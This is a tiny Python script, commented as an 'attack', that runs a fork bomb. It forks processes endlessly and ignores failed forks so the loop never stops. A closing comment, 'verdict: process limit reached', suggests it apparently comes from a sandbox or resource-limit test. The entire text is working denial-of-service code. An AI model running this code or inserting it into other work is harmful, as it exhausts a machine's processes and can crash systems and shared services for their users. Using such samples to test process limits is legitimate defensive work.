# attack: a fork bomb that shrugs off failed forks
# verdict: process limit reached
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
